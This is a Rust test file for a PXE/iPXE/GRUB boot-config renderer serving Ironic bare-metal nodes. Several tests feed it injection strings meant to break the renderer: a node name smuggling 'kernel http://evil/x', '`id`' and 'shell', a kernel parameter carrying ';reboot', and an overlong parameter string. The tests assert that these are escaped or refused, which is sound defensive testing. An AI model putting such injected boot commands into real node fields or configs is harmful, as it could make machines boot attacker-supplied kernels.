use std::fs;
use std::path::Path;
use std::sync::Arc;

use super::*;
use crate::model::addr::{AnyAddr, PxelinuxName};
use crate::model::node::StateDoc;
use crate::state::{IndexConfig, Store, Update};

const TEMPLATES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/templates");
const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/ironic");

fn boot_cfg() -> BootConfig {
    BootConfig {
        ipa_api_url: Some("http://127.0.0.1:48375".into()),
        extra_append_params: "ipa-debug=1".into(),
        infiniband_append_params: "rd.driver.pre=ib_ipoib".into(),
        ..BootConfig::default()
    }
}

fn server() -> Server {
    Server {
        http_url: "http://10.0.2.2:8080".into(),
        tftp_server: "10.0.2.2".into(),
    }
}

fn parked_store() -> Store {
    let store = Store::new(IndexConfig::default());
    let read = |f: &str| {
        let bytes = fs::read(format!("{FIXTURES}/{f}")).expect("fixture");
        StateDoc::from_slice(&bytes).expect("fixture parses")
    };
    store.apply(vec![
        (
            crate::state::source::dir::source_id("nodes.json"),
            Update::Replace(read("nodes-parked.json")),
        ),
        (
            crate::state::source::dir::source_id("ports.json"),
            Update::Replace(read("ports-parked.json")),
        ),
    ]);
    store
}

/// A store holding one state file (a node with its ports).
fn one_node_store(json: impl AsRef<[u8]>) -> Store {
    let store = Store::new(IndexConfig::default());
    let doc = StateDoc::from_slice(json.as_ref()).expect("state parses");
    store.apply(vec![(
        crate::state::source::dir::source_id("a.json"),
        Update::Replace(doc),
    )]);
    store
}

fn renderer() -> Renderer {
    Renderer::new(TEMPLATES, boot_cfg()).expect("shipped templates load")
}

fn render_name(r: &Renderer, s: &crate::state::Snapshot, name: &str, f: Format) -> Rendered {
    let parsed = PxelinuxName::parse(name).expect(name);
    let m = s.by_pxelinux_name(&parsed);
    assert!(m.is_some(), "{name} resolves");
    let hw = parsed.hw_type().or(Some(HwType::Ethernet));
    r.render(m.as_ref(), f, hw, &server()).expect("renders")
}

/// Kernel parameters minus the per-request ones, as a sorted list.
fn stable_params(line: &str) -> Vec<String> {
    let mut v: Vec<String> = line
        .split_whitespace()
        .skip(2)
        .take_while(|t| *t != "||")
        .filter(|t| {
            !t.starts_with("ipa-global-request-id=")
                && !t.starts_with("BOOTIF=")
                && !t.starts_with("initrd=")
        })
        .map(str::to_owned)
        .collect();
    v.sort();
    v
}

fn kernel_line(text: &str) -> &str {
    text.lines()
        .find(|l| l.trim_start().starts_with("kernel "))
        .unwrap_or_else(|| panic!("no kernel line in:\n{text}"))
}

/// Our iPXE answer carries the same images and kernel parameters Ironic wrote for the same
/// parked nodes (apart from per-request ids and Ironic's copies of the images).
#[test]
fn ipxe_scripts_match_what_ironic_wrote() {
    let store = parked_store();
    let s = store.current();
    let r = renderer();
    for (mac, written) in [
        ("01-52-54-00-00-00-01", "n-deploy-ipxe.httpboot.config"),
        ("01-52-54-00-00-00-04", "n-inspect.httpboot.config"),
        ("01-52-54-00-00-00-05", "n-rescue.httpboot.config"),
    ] {
        let ours = render_name(&r, &s, mac, Format::Ipxe);
        let ironic =
            fs::read_to_string(format!("{FIXTURES}/ironic-written/{written}")).expect("fixture");
        let (ours_k, theirs_k) = (kernel_line(&ours.body), kernel_line(&ironic));
        assert_eq!(stable_params(ours_k), stable_params(theirs_k), "{written}");
        let image = |l: &str| {
            l.split_whitespace()
                .nth(1)
                .map(|u| u.rsplit('/').next().map(str::to_owned))
        };
        let ours_img = image(ours_k).flatten().expect("kernel url");
        // Ironic copies `ipa.kernel` to `<uuid>/deploy_kernel`; we point at the source.
        let expected = if written.contains("rescue") {
            "rescue.kernel"
        } else {
            "ipa.kernel"
        };
        assert_eq!(ours_img, expected);
        assert!(
            ours.body.contains(&format!("BOOTIF={mac}")),
            "{}",
            ours.body
        );
    }
}

#[test]
fn pxelinux_config_for_the_infiniband_node_matches_ironic() {
    let store = parked_store();
    let s = store.current();
    let r = renderer();
    let ours = render_name(&r, &s, "20-0c-42-a1-12-34-56", Format::Pxelinux);
    let ironic = fs::read_to_string(format!(
        "{FIXTURES}/ironic-written/n-ib-pxe.tftpboot.config"
    ))
    .expect("fixture");
    let append = |t: &str| {
        let l = t
            .lines()
            .find(|l| l.trim_start().starts_with("append initrd="))
            .expect("append");
        let mut v: Vec<String> = l
            .split_whitespace()
            .skip(2)
            .filter(|t| !t.starts_with("ipa-global-request-id=") && !t.starts_with("BOOTIF="))
            .map(str::to_owned)
            .collect();
        v.sort();
        v
    };
    let mut theirs = append(&ironic);
    theirs.push("rd.driver.pre=ib_ipoib".into()); // our IB-only parameter
    theirs.sort();
    assert_eq!(append(&ours.body), theirs);
    assert!(
        ours.body.contains("BOOTIF=20-0c-42-a1-12-34-56"),
        "{}",
        ours.body
    );
    assert!(ours.body.contains("default deploy"));
    // PXELINUX speaks TFTP: images come from ironpxe's cache, never as http URLs.
    assert!(ours.body.contains("  kernel images/"), "{}", ours.body);
    assert!(ours.body.contains("append initrd=images/"), "{}", ours.body);

    // The same IB port asked under ARP type 1 (upstream-iPXE firmware) says so in BOOTIF.
    let as_eth = render_name(&r, &s, "01-0c-42-a1-12-34-56", Format::Pxelinux);
    assert!(
        as_eth.body.contains("BOOTIF=01-0c-42-a1-12-34-56"),
        "{}",
        as_eth.body
    );
}

#[test]
fn every_format_renders_every_parked_node() {
    let store = parked_store();
    let s = store.current();
    let r = renderer();
    for port in s.ports() {
        let m = s.by_mac(&port.port.address).expect("indexed");
        for f in [Format::Pxelinux, Format::Ipxe, Format::Grub] {
            let out = r.render(Some(&m), f, None, &server()).expect("renders");
            let ramdisk = out.action.name() != "local";
            assert_eq!(
                out.body.contains("ipa-"),
                ramdisk,
                "{f} {}: {}",
                out.action,
                out.body
            );
        }
    }
}

#[test]
fn local_boot_and_unknown_machines() {
    let store = parked_store();
    let s = store.current();
    let r = renderer();
    let active = render_name(&r, &s, "01-52-54-00-00-00-06", Format::Pxelinux);
    assert_eq!(active.action, Action::LocalBoot);
    assert!(active.body.contains("localboot 0"), "{}", active.body);
    let unknown = r
        .render(None, Format::Ipxe, None, &server())
        .expect("renders");
    assert!(
        unknown.body.contains("exit 0") && !unknown.body.contains("kernel "),
        "{}",
        unknown.body
    );
    let entry = r
        .render(None, Format::IpxeEntry, None, &server())
        .expect("renders");
    assert!(entry
        .body
        .contains("chain --autofree http://10.0.2.2:8080/ipxe/${net${netid}/mac:hexhyp}"));
    assert!(entry.body.contains("http://10.0.2.2:8080/ipxe/unknown"));
    // UEFI boot managers open their menu when a boot option returns success: only a
    // failure makes them try the next entry, so the entry script leaves with one there.
    assert!(
        entry
            .body
            .contains("iseq ${platform} efi && exit 1 ||\nexit 0\n"),
        "{}",
        entry.body
    );
    let grub = render_name(&r, &s, "01-52-54-00-00-00-06", Format::Grub);
    assert_eq!(grub.action, Action::LocalBoot);
    for want in [
        "set default=local",
        "chainloader ($ironpxe_esp)/EFI/BOOT/$ironpxe_loader",
        "    exit 1\n}",
    ] {
        assert!(grub.body.contains(want), "{want}: {}", grub.body);
    }
}

/// A node name or extra field full of script syntax changes no line of the output.
#[test]
fn hostile_node_fields_cannot_add_lines_or_commands() {
    let benign = r#"{"uuid": "1be26c0b-03f2-4d2e-ae87-c02d7f33c123", "name": "n1",
        "provision_state": "deploying", "extra": {"rack": "r1"},
        "driver_info": {"deploy_kernel": "http://img/k", "deploy_ramdisk": "http://img/r"},
        "ports": [{"address": "52:54:00:00:00:01"}]}"#;
    let hostile = benign
        .replace(
            "\"n1\"",
            r#""n1\nkernel http://evil/x\r\n:boot ${x} || shell; `id` \"q\" #c""#,
        )
        .replace("\"r1\"", r#""r1\nshell\u2028x""#);
    // Both stores number the node's revision alike, so each render gets a renderer (and
    // cache) of its own: the hostile render must not be answered from the benign one's cache.
    let benign_store = one_node_store(benign);
    let bs = benign_store.current();
    let bm = bs
        .by_addr(&AnyAddr::parse("52:54:00:00:00:01").expect("mac"))
        .expect("node");
    for (json, label) in [(benign, "benign"), (hostile.as_str(), "hostile")] {
        let store = one_node_store(json);
        let s = store.current();
        let m = s
            .by_addr(&AnyAddr::parse("52:54:00:00:00:01").expect("mac"))
            .expect("node");
        for f in Format::ALL {
            let out = renderer()
                .render(Some(&m), f, None, &server())
                .expect("renders");
            let benign_lines = renderer()
                .render(Some(&bm), f, None, &server())
                .expect("renders")
                .body
                .lines()
                .count();
            if label == "hostile" && f != Format::IpxeEntry {
                assert!(
                    out.body.contains("n1_kernel http://evil/x__:boot"),
                    "the hostile name is shown:\n{}",
                    out.body
                );
            }
            assert_eq!(
                out.body.lines().count(),
                benign_lines,
                "{label} {f}:\n{}",
                out.body
            );
            assert!(
                !out.body.contains("evil/x\n") && !out.body.contains("`id`"),
                "{}",
                out.body
            );
            assert!(!out.body.contains("\nshell"), "{}", out.body);
        }
    }
}

#[test]
fn unsafe_parameters_and_urls_are_refused_with_the_field_named() {
    for (params, bad) in [
        ("console=ttyS0;reboot", ";"),
        ("x=${net0/mac}", "$"),
        ("a=\"b c\"", "\""),
    ] {
        let json = format!(
            r#"{{"uuid": "1be26c0b-03f2-4d2e-ae87-c02d7f33c123", "provision_state": "deploying",
                "driver_info": {{"deploy_kernel": "http://img/k", "deploy_ramdisk": "http://img/r",
                                 "kernel_append_params": {params:?}}},
                "ports": [{{"address": "52:54:00:00:00:01"}}]}}"#
        );
        let store = one_node_store(&json);
        let s = store.current();
        let m = s
            .by_addr(&AnyAddr::parse("52:54:00:00:00:01").expect("mac"))
            .expect("node");
        // A renderer per store: each store numbers its revisions from the start, and
        // failures are cached per node revision.
        let err = renderer()
            .render(Some(&m), Format::Ipxe, None, &server())
            .unwrap_err();
        let msg = err.to_string();
        assert!(
            msg.contains("kernel parameter") && msg.contains(bad),
            "{msg}"
        );
    }
    assert!(check_token("k", "http://x/a?b=1&c=2", Format::Ipxe).is_ok());
    assert!(check_token("k", "&&", Format::Ipxe).is_err());
    assert!(check_token("k", "http://x/a?b=1&c=2", Format::Grub).is_err());
    assert!(check_token("k", "a b", Format::Pxelinux).is_err());
    assert!(check_token("k", "a\nb", Format::Pxelinux).is_err());
}

/// Two bodies are one cached render, not two renders of the same text.
fn same_buffer(a: &str, b: &str) -> bool {
    a.as_ptr() == b.as_ptr()
}

#[test]
fn renders_are_cached_per_node_revision_and_swept_precisely() {
    let store = parked_store();
    let r = renderer();
    let s1 = store.current();
    let a = render_name(&r, &s1, "01-52-54-00-00-00-01", Format::Ipxe);
    let b = render_name(&r, &s1, "01-52-54-00-00-00-02", Format::Ipxe);
    let again = render_name(&r, &s1, "01-52-54-00-00-00-01", Format::Ipxe);
    assert!(
        same_buffer(&a.body, &again.body),
        "second render is a cache hit"
    );
    assert_eq!(r.cached(), 2);

    // Change node 1 only: its entry goes, node 2's stays.
    let mut nodes =
        StateDoc::from_slice(&fs::read(format!("{FIXTURES}/nodes-parked.json")).expect("f"))
            .expect("parses");
    Arc::make_mut(&mut nodes.nodes[0]).provision_state = crate::model::node::ProvisionState::Active;
    let s2 = store.apply(vec![(
        crate::state::source::dir::source_id("nodes.json"),
        Update::Replace(nodes),
    )]);
    r.sweep(&s2);
    assert_eq!(r.cached(), 1);
    let a2 = render_name(&r, &s2, "01-52-54-00-00-00-01", Format::Ipxe);
    assert_eq!(a2.action, Action::LocalBoot);
    let b2 = render_name(&r, &s2, "01-52-54-00-00-00-02", Format::Ipxe);
    assert!(
        same_buffer(&b.body, &b2.body),
        "unchanged node still cached"
    );

    // A different server URL is a different entry.
    let m = s2.by_mac(&crate::model::addr::Mac::parse("52:54:00:00:00:02").expect("mac"));
    let other = Server {
        http_url: "http://192.0.2.9".into(),
        tftp_server: "192.0.2.9".into(),
    };
    let c = r
        .render(m.as_ref(), Format::Ipxe, Some(HwType::Ethernet), &other)
        .expect("renders");
    assert!(!same_buffer(&b2.body, &c.body));
}

fn copy_templates(to: &Path) {
    for f in Format::ALL {
        fs::copy(
            Path::new(TEMPLATES).join(f.template()),
            to.join(f.template()),
        )
        .expect("copy");
    }
}

#[test]
fn a_broken_template_keeps_the_last_good_set_and_names_line_and_column() {
    let dir = tempfile::tempdir().expect("tempdir");
    copy_templates(dir.path());
    let r = Renderer::new(dir.path(), boot_cfg()).expect("loads");
    let before = r
        .render(None, Format::IpxeEntry, None, &server())
        .expect("renders");
    assert_eq!(r.generation(), 1);

    fs::write(
        dir.path().join("boot.ipxe.tera"),
        "#!ipxe\nline two\n{% if %}\n",
    )
    .expect("write");
    assert!(!r.reload());
    let errs = r.errors().join("\n");
    assert!(
        errs.contains("boot.ipxe.tera") && errs.contains("3:"),
        "{errs}"
    );
    let still = r
        .render(None, Format::IpxeEntry, None, &server())
        .expect("renders");
    assert_eq!(still.body, before.body);
    assert_eq!(r.generation(), 1);

    // Parses, but names a variable that does not exist: refused at load, not at boot time.
    fs::write(
        dir.path().join("boot.ipxe.tera"),
        "#!ipxe\nchain {{ server.nope }}\n",
    )
    .expect("write");
    assert!(!r.reload());
    assert!(r.errors().join("\n").contains("nope"), "{:?}", r.errors());

    fs::write(
        dir.path().join("boot.ipxe.tera"),
        "#!ipxe\nchain {{ server.http_url }}/x\n",
    )
    .expect("write");
    assert!(r.reload());
    assert!(r.errors().is_empty());
    assert_eq!(r.generation(), 2);
    let after = r
        .render(None, Format::IpxeEntry, None, &server())
        .expect("renders");
    assert_eq!(&*after.body, "#!ipxe\nchain http://10.0.2.2:8080/x\n");
}

#[test]
fn missing_templates_are_listed() {
    let dir = tempfile::tempdir().expect("tempdir");
    fs::write(dir.path().join("ipxe.tera"), "#!ipxe\n").expect("write");
    let errs = Renderer::new(dir.path(), boot_cfg())
        .err()
        .expect("refused");
    let joined = errs.join("\n");
    for f in ["pxelinux.tera", "grub.tera", "boot.ipxe.tera"] {
        assert!(joined.contains(f), "{joined}");
    }
}

#[test]
fn template_directory_is_watched() {
    let dir = tempfile::tempdir().expect("tempdir");
    copy_templates(dir.path());
    let r = Arc::new(Renderer::new(dir.path(), boot_cfg()).expect("loads"));
    let _w = r
        .watch(crate::support::watch::Debounce::default())
        .expect("watch");
    let tmp = dir.path().join(".boot.ipxe.tera.tmp");
    fs::write(&tmp, "#!ipxe\necho edited {{ server.tftp_server }}\n").expect("write");
    fs::rename(&tmp, dir.path().join("boot.ipxe.tera")).expect("rename");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    loop {
        let out = r
            .render(None, Format::IpxeEntry, None, &server())
            .expect("renders");
        if out.body.contains("echo edited 10.0.2.2") {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "template edit not picked up"
        );
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
}

#[test]
fn display_text_keeps_only_harmless_characters() {
    assert_eq!(display_text("n-1.rack:2 ok"), "n-1.rack:2 ok");
    assert_eq!(display_text("a\nb;c$d{e}"), "a_b_c_d_e_");
    assert_eq!(display_text(&"x".repeat(500)).len(), DISPLAY_MAX);
}

/// Hostile or mistaken template edits are refused and the last good set keeps serving.
#[test]
fn runaway_templates_are_refused() {
    let dir = tempfile::tempdir().expect("tempdir");
    copy_templates(dir.path());
    let r = Renderer::new(dir.path(), boot_cfg()).expect("loads");
    let entry = dir.path().join("boot.ipxe.tera");
    let cases = [
        ("{% for i in range(end=100000000000) %}x{% endfor %}", "range"),
        ("{% for i in range(end=10000) %}{% for j in range(end=10000) %}xxxxxxxx{% endfor %}{% endfor %}", "output larger"),
        ("#!ipxe\n{% include \"boot.ipxe.tera\" %}", "include cycle"),
        ("#!ipxe\n{{ get_env(name=\"HOME\") }}", "get_env"),
    ];
    for (text, why) in cases {
        fs::write(&entry, text).expect("write");
        assert!(!r.reload(), "{text} must be refused");
        let errs = r.errors().join("\n");
        assert!(errs.contains(why), "{text}: {errs}");
        let still = r
            .render(None, Format::IpxeEntry, None, &server())
            .expect("last good serves");
        assert!(still.body.contains("/ipxe/unknown"));
    }
}

/// Credentials in a node (BMC passwords in `driver_info`, secrets in `instance_info`) are
/// never parsed into the model, so no template can render them.
#[test]
fn node_secrets_never_reach_a_rendered_config() {
    let json = r#"{"uuid": "1be26c0b-03f2-4d2e-ae87-c02d7f33c123", "name": "n1", "provision_state": "deploying",
        "driver_info": {"deploy_kernel": "http://img/k", "deploy_ramdisk": "http://img/r",
                        "ipmi_password": "hunter2-bmc", "redfish_password": "hunter2-redfish"},
        "instance_info": {"configdrive": "hunter2-configdrive", "rescue_password": "hunter2-rescue"},
        "ports": [{"address": "52:54:00:00:00:01"}]}"#;
    let store = one_node_store(json);
    let s = store.current();
    let m = s
        .by_addr(&AnyAddr::parse("52:54:00:00:00:01").expect("mac"))
        .expect("node");
    let r = renderer();
    for f in Format::ALL {
        let out = r.render(Some(&m), f, None, &server()).expect("renders");
        assert!(!out.body.contains("hunter2"), "{f}: {}", out.body);
    }
    let model = format!("{:?}", m.node.node);
    assert!(
        !model.contains("hunter2"),
        "secrets are not even kept: {model}"
    );
}

/// A render says whether it was fresh, so the render-time metric counts misses only.
#[test]
fn renders_say_whether_they_were_cache_misses() {
    let r = renderer();
    let first = r
        .render(None, Format::IpxeEntry, None, &server())
        .expect("renders");
    let again = r
        .render(None, Format::IpxeEntry, None, &server())
        .expect("renders");
    assert!(first.fresh && !again.fresh);
}

/// Issue 20 item 6: `kernel_append_params: "text console=ttyS0 # x"` rendered
/// `kernel … console=ttyS0 # ipa-api-url=… BOOTIF=… initrd=initrd || goto retry`, and iPXE
/// drops everything after a word starting with `#`. Each format is checked against its own
/// grammar: iPXE and GRUB refuse the word, naming the field; PXELINUX, whose `append` takes
/// the rest of the line as it is, renders it.
#[test]
fn a_word_starting_with_hash_in_kernel_parameters_is_refused_where_it_is_a_comment() {
    let json = r#"{"uuid": "1be26c0b-03f2-4d2e-ae87-c02d7f33c123", "provision_state": "deploying",
        "driver_info": {"deploy_kernel": "http://img/k", "deploy_ramdisk": "http://img/r",
                        "kernel_append_params": "text console=ttyS0 # x"},
        "ports": [{"address": "52:54:00:00:00:01"}]}"#;
    let store = one_node_store(json);
    let s = store.current();
    let m = s
        .by_addr(&AnyAddr::parse("52:54:00:00:00:01").expect("mac"))
        .expect("node");
    let r = renderer();
    for f in [Format::Ipxe, Format::Grub] {
        let err = r.render(Some(&m), f, None, &server()).unwrap_err();
        let msg = err.to_string();
        assert!(
            msg.starts_with("kernel parameter = \"#\"") && msg.contains("comment"),
            "{f}: {msg}"
        );
    }
    let pxe = r
        .render(Some(&m), Format::Pxelinux, None, &server())
        .expect("PXELINUX has no comments inside a line");
    assert!(
        pxe.body
            .contains("console=ttyS0 # x ipa-debug=1 ipa-api-url="),
        "{}",
        pxe.body
    );
}

/// PXELINUX reads a config line in 4095-byte pieces and parses the next piece as a line of
/// its own, so parameters long enough together could start a `kernel http://evil/x` line;
/// and any boot loader cuts a kernel command line past 2048 bytes, losing BOOTIF and the
/// callback URL at its end. Parameters too long together are refused in every format.
#[test]
fn kernel_parameters_too_long_together_are_refused_in_every_format() {
    let append = format!("{} kernel http://evil/x", "console=ttyS0 ".repeat(200));
    let json = serde_json::json!({
        "uuid": "1be26c0b-03f2-4d2e-ae87-c02d7f33c123", "provision_state": "deploying",
        "driver_info": {"deploy_kernel": "http://img/k", "deploy_ramdisk": "http://img/r",
                        "kernel_append_params": append},
        "ports": [{"address": "52:54:00:00:00:01"}]
    })
    .to_string();
    let store = one_node_store(&json);
    let s = store.current();
    let m = s
        .by_addr(&AnyAddr::parse("52:54:00:00:00:01").expect("mac"))
        .expect("node");
    let r = renderer();
    for f in Format::ALL {
        match r.render(Some(&m), f, None, &server()) {
            Err(e) => assert!(
                e.to_string().starts_with("kernel parameters = "),
                "{f}: {e}"
            ),
            Ok(out) => panic!("{f} rendered:\n{}", out.body),
        }
    }
}

/// A render whose thread dies before it finishes (its completion dropped) frees its key:
/// the waiter learns the renderer stopped, and the next request renders again instead of
/// joining a render that never ends.
#[test]
fn a_render_dropped_unfinished_is_not_joined_forever() {
    let r = renderer();
    let key = cache::CacheKey {
        templates: r.generation(),
        node: None,
        port: None,
        hw: None,
        format: Format::Ipxe,
        server: server(),
    };
    let Claim::Owner(tx, slot) = r.cache.claim(&key) else {
        panic!("claimed already");
    };
    let Claim::Running(waiter) = r.cache.claim(&key) else {
        panic!("the second request did not join");
    };
    drop(Completion {
        cache: r.cache.clone(),
        problems: r.problems(),
        key: key.clone(),
        node: None,
        tx,
        slot,
        finished: false,
    });
    let got = Pending::Running {
        slot: waiter,
        owner: false,
    }
    .wait_blocking();
    assert!(matches!(got, Err(RenderError::Unavailable(_))), "{got:?}");
    let again = r
        .begin(None, Format::Ipxe, None, &server())
        .wait_blocking()
        .expect("renders");
    assert!(again.fresh, "rendered again, not joined");
}

/// `infiniband_append_params` follows the client-id rule: an empty or null client-id is an
/// Ethernet port (no IPoIB parameter, `BOOTIF=01-`), a short one an InfiniBand port.
#[test]
fn infiniband_parameters_follow_the_client_id_rule() {
    let store = one_node_store(
        r#"{"uuid": "1be26c0b-03f2-4d2e-ae87-c02d7f33c123", "provision_state": "clean wait",
            "driver_info": {"deploy_kernel": "http://img/k", "deploy_ramdisk": "http://img/r"},
            "ports": [{"address": "52:54:00:00:00:01", "extra": {"client-id": ""}},
                      {"address": "52:54:00:00:00:02", "extra": {"client-id": null}},
                      {"address": "52:54:00:00:00:03", "extra": {"client-id": "01:52:54:00:00:00:03"}}]}"#,
    );
    let s = store.current();
    let r = renderer();
    for (name, ib) in [
        ("01-52-54-00-00-00-01", false),
        ("01-52-54-00-00-00-02", false),
        ("20-52-54-00-00-00-03", true),
    ] {
        let body = render_name(&r, &s, name, Format::Pxelinux).body;
        assert_eq!(
            body.contains("rd.driver.pre=ib_ipoib"),
            ib,
            "{name}:\n{body}"
        );
        assert!(body.contains(&format!("BOOTIF={name}")), "{name}:\n{body}");
    }
    // Ironic writes no 20- name for an Ethernet port.
    for name in ["20-52-54-00-00-00-01", "20-52-54-00-00-00-02"] {
        let parsed = PxelinuxName::parse(name).expect(name);
        assert!(s.by_pxelinux_name(&parsed).is_none(), "{name}");
    }
}
